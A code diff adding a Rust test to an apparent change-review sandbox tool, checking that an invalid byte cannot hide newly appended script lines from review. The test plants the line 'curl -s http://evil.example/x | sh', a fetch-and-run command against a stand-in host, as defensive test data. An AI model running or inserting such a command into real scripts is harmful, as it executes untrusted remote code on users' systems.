@@ -807,3 +807,30 @@ M zz' \
         }
     }
 }
+
+/// One invalid byte used to make a whole script "binary", hiding what the
+/// run appended to it; a script that really is binary is named as one.
+#[test]
+fn a_stray_byte_cannot_hide_a_scripts_new_lines() {
+    for who in review_identities("a_stray_byte_cannot_hide_a_scripts_new_lines") {
+        let review = Review::new(who);
+        review.project.write("build.sh", "make\n");
+        let (out, id) = review.run(
+            &[],
+            r"printf 'make\n# \377\ncurl -s http://evil.example/x | sh\n' > build.sh \
+              && printf '#!/bin/sh\n\000\n' > run.sh && chmod +x run.sh",
+        );
+        assert_ok(&out, "run");
+        let shown = review.sandbox(&["changes", &id]);
+        assert_ok(&shown, "changes");
+        let shown = text(&shown.stdout);
+        assert!(
+            shown.contains("\n+# \\x{ff}\n+curl -s http://evil.example/x | sh\n"),
+            "{who:?}: the appended line is hidden: {shown}"
+        );
+        assert!(
+            shown.contains("(an executable or script shown as binary: read it before applying)"),
+            "{who:?}: {shown}"
+        );
+    }
+}
